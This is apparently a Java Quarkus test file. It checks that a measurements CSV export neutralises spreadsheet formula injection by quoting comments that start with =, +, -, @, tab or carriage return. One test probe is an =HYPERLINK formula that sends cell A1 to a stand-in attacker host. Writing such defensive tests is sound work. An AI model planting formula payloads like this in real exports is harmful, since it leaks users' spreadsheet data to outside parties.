package cn.fjquality.reports;

import cn.fjquality.testsupport.TestCallers;
import io.quarkus.test.junit.QuarkusTest;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;

import static cn.fjquality.reports.Api.row;
import static cn.fjquality.reports.Api.submitOk;
import static io.restassured.RestAssured.given;
import static org.junit.jupiter.api.Assertions.assertEquals;

/**
 * CSV formula injection (issue "[2/6] Security"): a comment beginning with {@code =HYPERLINK(...)} came out of the
 * measurements export as a live formula for Excel / WPS. Every text cell that starts with {@code = + - @}, a tab or a
 * carriage return is prefixed with a single quote (OWASP); number cells stay numbers, negative ones included: the
 * column's type decides, not the content.
 */
@QuarkusTest
class CsvExportInjectionTest {
    static World w;
    static final String PROBE = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点击查看\")";

    @BeforeAll
    static void world() {
        w = World.create();
    }

    static List<CSVRecord> export(String target) throws Exception {
        byte[] csv = given().header("Authorization", TestCallers.analyst()).accept("text/csv").queryParam("target", target)
                .get("/api/v1/measurements").then().statusCode(200).extract().asByteArray();
        String text = new String(csv, 3, csv.length - 3, StandardCharsets.UTF_8);
        try (CSVParser parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(text))) {
            return parser.getRecords();
        }
    }

    @Test
    void aFormulaInACommentComesOutAsText() throws Exception {
        Map<String, Object> body = row(w.monthly, w.dept, "202101", 101);
        body.put("comment", PROBE);
        submitOk(TestCallers.reporter(w.dept), body);
        CSVRecord r = export(w.monthly).stream().filter(x -> x.get("period").equals("202101")).findFirst().orElseThrow();
        assertEquals("'" + PROBE, r.get("comment"));
        assertEquals("101", r.get("value"));
    }

    @Test
    void everyDangerousLeadIsNeutralisedAndNumbersStayNumbers() throws Exception {
        // A SUM target without bounds, so a value may be negative.
        String target = TestEvents.code("T-NEG");
        new TestEvents.Target(target).frequency("MONTH").aggregation("SUM").kind("CUMULATIVE").bounds(null, null)
                .plan(2020, 2030).lead(w.dept).publish();
        World.awaitTarget(target, 1);
        String[] comments = {"+1+2", "-2+3", "@SUM(A1:A2)", "\tindent", "\rreturn", "=1+1", "普通说明", "a=b", " =space first"};
        for (int i = 0; i < comments.length; i++) {
            Map<String, Object> body = row(target, w.dept, String.format("2022%02d", i + 1), -5 - i);
            body.put("comment", comments[i]);
            submitOk(TestCallers.reporter(w.dept), body);
        }
        List<CSVRecord> records = export(target);
        assertEquals(comments.length, records.size());
        for (int i = 0; i < comments.length; i++) {
            CSVRecord r = records.get(i);
            String c = comments[i];
            boolean dangerous = "=+-@\t\r".indexOf(c.charAt(0)) >= 0;
            assertEquals(dangerous ? "'" + c : c, r.get("comment"), "comment " + i);
            assertEquals(Integer.toString(-5 - i), r.get("value"), "a negative number stays a number");
            assertEquals(w.dept, r.get("unit"));
        }
    }
}
